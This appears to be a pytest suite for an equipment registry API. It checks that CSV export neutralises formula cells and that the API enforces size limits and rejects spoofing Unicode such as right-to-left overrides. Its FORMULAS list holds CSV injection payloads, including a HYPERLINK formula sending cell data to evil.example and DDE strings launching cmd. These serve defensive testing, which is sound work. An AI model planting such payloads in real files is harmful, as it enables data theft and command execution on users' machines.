"""Input and data (issue 11): CSV formula escaping and per-caller headers, body and record size limits,
text that cannot be stored or that spoofs a reader, attribute allow-lists, 405 with Allow, empty PATCH."""
from __future__ import annotations

import csv
import io
import json

import pytest

from equipment.registry.models import Equipment, HistoryEvent, Organization

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "=cmd|' /C calc'!A0", "+1+cmd|x", "-2-3+cmd|x",
            "@SUM(1+1)*cmd|x", "\tleading tab", "\r=carriage"]


def _rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_export_escapes_formula_cells_and_reimports_them_unchanged(client, f, db):
    from equipment.registry import importer
    units = [f.elevator(address=text, attributes={"model": text, "floors": 3}) for text in FORMULAS]
    h = f.token(client, f.user("admin"))
    body = client.get("/api/v1/equipment/export.csv", headers=h).data
    header, *rows = _rows(body)
    cells = [cell for row in rows for cell in row]
    for cell in cells:  # no cell a spreadsheet would evaluate
        assert not cell.startswith(importer.FORMULA_START), cell
    address, model = header.index("address"), header.index("attr.model")
    assert [r[address] for r in rows] == ["'" + t for t in FORMULAS]
    assert [r[model] for r in rows] == ["'" + t for t in FORMULAS]
    assert "-0.5" == importer.csv_cell(-0.5)  # numbers stay numbers
    read = importer.read_rows(body, "export.csv")
    assert [r["address"] for r in read] == FORMULAS  # the importer takes the apostrophe off again
    assert [u.address for u in units] == FORMULAS


def test_export_header_lists_only_attributes_the_caller_can_see(client, f):
    mine, theirs = f.org(), f.org()
    f.elevator(user_org=mine, attributes={"floors": 6})
    f.elevator(user_org=theirs, attributes={"floors": 9, "self_testing": True, "factory_no": "B-secret"})
    owner = f.user("owner", mine)
    header = _rows(client.get("/api/v1/equipment/export.csv", headers=f.token(client, owner)).data)[0]
    assert "attr.floors" in header
    assert "attr.self_testing" not in header and "attr.factory_no" not in header
    admin_header = _rows(client.get("/api/v1/equipment/export.csv",
                                    headers=f.token(client, f.user("admin"))).data)[0]
    assert {"attr.self_testing", "attr.factory_no"} <= set(admin_header)


def test_every_family_refuses_unknown_attribute_keys_and_long_values(client, f, db):
    h = f.token(client, f.user("admin"))
    org = f.org()
    base = {"category": "1000", "registration_code": "10003501002016050001", "address": "福州市锅炉房",
            "user_org_id": org.id}
    before = db.session.query(Equipment).count()
    resp = client.post("/api/v1/equipment", headers=h, json={**base, "attributes": {"anything": "x" * 10}})
    assert resp.status_code == 422 and "anything" in resp.get_json()["error"]["details"]["attributes"]
    resp = client.post("/api/v1/equipment", headers=h, json={**base, "attributes": {"model": "x" * 5000}})
    assert resp.status_code == 422 and "model" in resp.get_json()["error"]["details"]["attributes"]
    assert db.session.query(Equipment).count() == before
    resp = client.post("/api/v1/equipment", headers=h, json={**base, "attributes": {"model": "WNS4-1.25"}})
    assert resp.status_code == 201, resp.get_json()


def test_json_bodies_get_the_small_limit_and_imports_the_large_one(app, client, f, db):
    h = f.token(client, f.user("admin"))
    small, large = app.config["MAX_CONTENT_LENGTH"], app.config["UPLOAD_MAX_CONTENT_LENGTH"]
    assert small <= 1024 * 1024 < large
    before = db.session.query(Organization).count()
    resp = client.post("/api/v1/organizations", headers=h,
                       json={"kind": "user_unit", "name": "大" * (small // 2), "code": "91350100MA2XXXXX0X"})
    assert resp.status_code == 413 and resp.get_json()["error"]["code"] == "request_entity_too_large"
    assert db.session.query(Organization).count() == before
    # the same size as an import upload is read (and refused for its content, not its size)
    padding = b"category,address\n" + (b"3110," + b"x" * 100_000 + b"\n") * (small // 100_000 + 1)
    resp = client.post("/api/v1/equipment/import?dry_run=1", headers=h,
                       data={"file": (io.BytesIO(padding), "big.csv")}, content_type="multipart/form-data")
    assert resp.status_code == 422 and "errors" in resp.get_json()


def test_history_records_are_capped(client, f, db):
    unit = f.elevator()
    h = f.token(client, f.user("admin"))
    count = db.session.query(HistoryEvent).filter_by(equipment_id=unit.id).count()
    resp = client.post(f"/api/v1/equipment/{unit.id}/history", headers=h,
                       json={"kind": "repaired", "data": {"note": "修" * 20_000}})
    assert resp.status_code == 422 and "data" in resp.get_json()["error"]["details"]
    assert db.session.query(HistoryEvent).filter_by(equipment_id=unit.id).count() == count
    resp = client.post(f"/api/v1/equipment/{unit.id}/history", headers=h,
                       json={"kind": "repaired", "data": {"note": "更换门锁"}})
    assert resp.status_code == 201, resp.get_json()


BAD_TEXT = {"lone surrogate": "福州\ud800路", "right-to-left override": "福州\u202e路1号",
            "zero-width space": "福州\u200b鼓楼", "isolate": "\u2067abc\u2069", "BOM inside": "a\ufeffb",
            "NUL": "a\x00b"}


@pytest.mark.parametrize("text", list(BAD_TEXT.values()), ids=list(BAD_TEXT))
def test_unstorable_or_spoofing_text_is_refused_everywhere(client, f, db, text):
    h = f.token(client, f.user("admin"))
    before = db.session.query(Organization).count()
    # a raw body: the JSON encoder of the test client would refuse the lone surrogate itself
    body = json.dumps({"kind": "user_unit", "name": text, "code": "91350100MA2XXXXX0X"})
    resp = client.post("/api/v1/organizations", headers={**h, "Content-Type": "application/json"}, data=body)
    assert resp.status_code == 422, resp.data[:300]
    assert list(resp.get_json()["error"]["details"]) == ["name"]
    assert db.session.query(Organization).count() == before
    unit = f.elevator()
    resp = client.patch(f"/api/v1/equipment/{unit.id}", headers={**h, "Content-Type": "application/json"},
                        data=json.dumps({"address": text}))
    assert resp.status_code == 422 and "address" in resp.get_json()["error"]["details"]


def test_spoofing_text_in_an_import_file_is_refused(client, f, db):
    from equipment.registry import importer
    org = f.org()
    body = ("category,device_code,address,lat,lon,user_org_code\n"
            f"3110,311031001201990001,福州\u202e路1号,26.0,119.3,{org.code}\n").encode()
    report, _ = importer.validate_rows(importer.read_rows(body))
    assert report.errors and "address" in report.errors[0]["errors"]


def test_plain_chinese_and_emoji_are_fine(client, f):
    h = f.token(client, f.user("admin"))
    resp = client.post("/api/v1/organizations", headers=h,
                       json={"kind": "user_unit", "name": "福州市鼓楼区 · 物业（一期）🏢", "code": "91350100MA2XXXXX0X"})
    assert resp.status_code in (201, 422)
    assert "name" not in resp.get_json().get("error", {}).get("details", {})


def test_method_not_allowed_names_the_allowed_methods(client):
    resp = client.put("/api/v1/organizations")
    assert resp.status_code == 405 and resp.get_json()["error"]["code"] == "method_not_allowed"
    allowed = {m.strip() for m in resp.headers["Allow"].split(",")}
    assert {"GET", "POST"} <= allowed and "PUT" not in allowed


def test_an_empty_patch_is_refused_and_appends_nothing(client, f, db):
    unit = f.elevator()
    h = f.token(client, f.user("admin"))
    count = db.session.query(HistoryEvent).filter_by(equipment_id=unit.id).count()
    for body in ({}, {"attributes": {}}):
        resp = client.patch(f"/api/v1/equipment/{unit.id}", headers=h, json=body)
        assert resp.status_code == 422, resp.get_json()
    assert db.session.query(HistoryEvent).filter_by(equipment_id=unit.id).count() == count


def test_camera_photos_on_the_maintenance_page_get_the_upload_limit(app, client, f, db):
    from tests.inspections.test_forms import _start
    from tests.inspections.test_pages import _csrf
    record_url = _start(client, f)
    page = client.get(record_url).get_data(as_text=True)
    photo = b"\xff\xd8\xff\xe0" + bytes(app.config["MAX_CONTENT_LENGTH"] + 4096)  # a phone photo over 1 MiB
    done = client.post(record_url, data={"done": ["a1_01"], "csrf_token": _csrf(page),
                                         "photos": (io.BytesIO(photo), "p.jpg")}, content_type="multipart/form-data")
    assert done.status_code == 302, done.status_code
    too_big = client.post("/login", data={"username": "x" * app.config["MAX_CONTENT_LENGTH"], "password": "y"})
    assert too_big.status_code == 413  # other forms keep the small limit
